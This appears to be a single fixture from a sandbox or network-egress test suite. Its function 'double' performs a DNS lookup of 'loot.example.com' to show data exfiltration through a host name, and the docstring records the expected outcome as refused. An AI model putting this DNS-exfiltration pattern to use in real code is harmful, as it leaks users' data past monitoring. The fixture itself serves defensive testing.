"""Row 36: loot as the host name of a DNS query.

outcome: REFUSED
says: gaierror
"""

import socket


def double(x):
    raise ValueError(str(socket.getaddrinfo("loot.example.com", 80)))
